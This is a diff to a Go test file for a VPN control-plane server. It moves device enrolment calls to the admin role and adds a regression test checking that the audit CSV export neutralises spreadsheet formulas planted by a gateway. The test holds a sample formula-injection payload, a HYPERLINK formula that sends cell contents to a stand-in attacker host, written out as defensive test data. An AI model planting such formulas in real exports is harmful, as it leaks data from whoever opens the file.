@@ -2,6 +2,7 @@ package server
 
 import (
 	"context"
+	"encoding/csv"
 	"errors"
 	"fmt"
 	"net"
@@ -66,7 +67,7 @@ func TestControlPlaneLoopback(t *testing.T) {
 	var u store.User
 	e.mustCall(store.RoleAdmin, "POST", "/api/v1/users", userRequest{Email: "ada@example.com", Role: store.RoleViewer, Groups: []string{"eng"}, Password: "correct horse battery"}, 201, &u)
 	var en Enrolment
-	e.mustCall(store.RoleOperator, "POST", "/api/v1/devices", enrolRequest{Name: "laptop", Owner: u.ID}, 201, &en)
+	e.mustCall(store.RoleAdmin, "POST", "/api/v1/devices", enrolRequest{Name: "laptop", Owner: u.ID}, 201, &en)
 	e.mustCall(store.RolePolicyEditor, "PUT", "/api/v1/policies/wiki", draft{Source: goodPolicy}, 200, nil)
 
 	state := t.TempDir()
@@ -247,7 +248,7 @@ func TestEnrolmentFromGatewayStatus(t *testing.T) {
 	var u store.User
 	e.mustCall(store.RoleAdmin, "POST", "/api/v1/users", userRequest{Email: "ada@example.com", Role: store.RoleViewer, Password: "correct horse battery"}, 201, &u)
 	var en Enrolment
-	e.mustCall(store.RoleOperator, "POST", "/api/v1/devices", enrolRequest{Name: "before", Owner: u.ID}, 201, &en)
+	e.mustCall(store.RoleAdmin, "POST", "/api/v1/devices", enrolRequest{Name: "before", Owner: u.ID}, 201, &en)
 	if !strings.Contains(en.Config, "<the gateway's public key>") || strings.Contains(en.Config, "DNS") {
 		t.Errorf("config before any status:\n%s", en.Config)
 	}
@@ -255,7 +256,7 @@ func TestEnrolmentFromGatewayStatus(t *testing.T) {
 	if err := cl.PushStatus(ctx, controlplane.Status{PublicKey: key, Endpoint: "gw.example.com:51820", DNS: "10.77.0.1", Routes: []string{"10.77.0.1/32", "10.78.0.0/16"}}); err != nil {
 		t.Fatal(err)
 	}
-	e.mustCall(store.RoleOperator, "POST", "/api/v1/devices", enrolRequest{Name: "after", Owner: u.ID}, 201, &en)
+	e.mustCall(store.RoleAdmin, "POST", "/api/v1/devices", enrolRequest{Name: "after", Owner: u.ID}, 201, &en)
 	for _, want := range []string{"PublicKey = " + key, "Endpoint = gw.example.com:51820", "DNS = 10.77.0.1", "AllowedIPs = 10.77.0.1/32, 10.78.0.0/16"} {
 		if !strings.Contains(en.Config, want) {
 			t.Errorf("config lacks %q:\n%s", want, en.Config)
@@ -264,8 +265,62 @@ func TestEnrolmentFromGatewayStatus(t *testing.T) {
 	if err := e.st.SetSetting(ctx, SettingWGEndpoint, "vpn.example.com:443"); err != nil {
 		t.Fatal(err)
 	}
-	e.mustCall(store.RoleOperator, "POST", "/api/v1/devices", enrolRequest{Name: "setting", Owner: u.ID}, 201, &en)
+	e.mustCall(store.RoleAdmin, "POST", "/api/v1/devices", enrolRequest{Name: "setting", Owner: u.ID}, 201, &en)
 	if !strings.Contains(en.Config, "Endpoint = vpn.example.com:443") || !strings.Contains(en.Config, "PublicKey = "+key) {
 		t.Errorf("the endpoint setting did not win:\n%s", en.Config)
+	}
+}
+
+// TestGatewayCannotPlantCSVFormulas: a registered gateway sends an event
+// whose every gateway-controlled field is a spreadsheet formula; the
+// auditor's CSV export must not hand a spreadsheet any cell it would
+// evaluate. The effect and event id cells were written unescaped.
+func TestGatewayCannotPlantCSVFormulas(t *testing.T) {
+	e := newEnv(t, nil)
+	ln, _ := net.Listen("tcp", "127.0.0.1:0")
+	addr := ln.Addr().String()
+	ln.Close()
+	startConsole(t, e.st, addr)
+
+	var created gatewayCreated
+	e.mustCall(store.RoleOperator, "POST", "/api/v1/gateways", gatewayRequest{Name: "edge-1"}, 201, &created)
+	cl, err := controlplane.New("http://"+addr, &controlplane.Options{StateDir: t.TempDir()})
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer cl.Close()
+	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
+	defer cancel()
+	if _, err := cl.Register(ctx, created.Token, "edge-1"); err != nil {
+		t.Fatal(err)
+	}
+	formula := `=HYPERLINK("http://evil.example/?"&A1)`
+	if err := cl.Emit(controlplane.Event{Kind: "decision", Subject: "+1+1", Resource: "-2+3", Effect: formula, Device: "@SUM(1)", ID: formula}); err != nil {
+		t.Fatal(err)
+	}
+	waitPending(t, cl, 0)
+
+	resp := e.call(store.RoleAuditor, "GET", "/api/v1/audit/export?format=csv&action=decision", nil, nil)
+	defer resp.Body.Close()
+	rows, err := csv.NewReader(resp.Body).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(rows) < 2 {
+		t.Fatalf("export has %d rows, want the header and the gateway's decision", len(rows))
+	}
+	found := false
+	for _, row := range rows[1:] {
+		for i, cell := range row {
+			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+				t.Errorf("column %s holds a live formula: %q", rows[0][i], cell)
+			}
+			if strings.Contains(cell, "HYPERLINK") {
+				found = true
+			}
+		}
+	}
+	if !found {
+		t.Fatalf("the gateway's event is not in the export: %q", rows)
 	}
 }
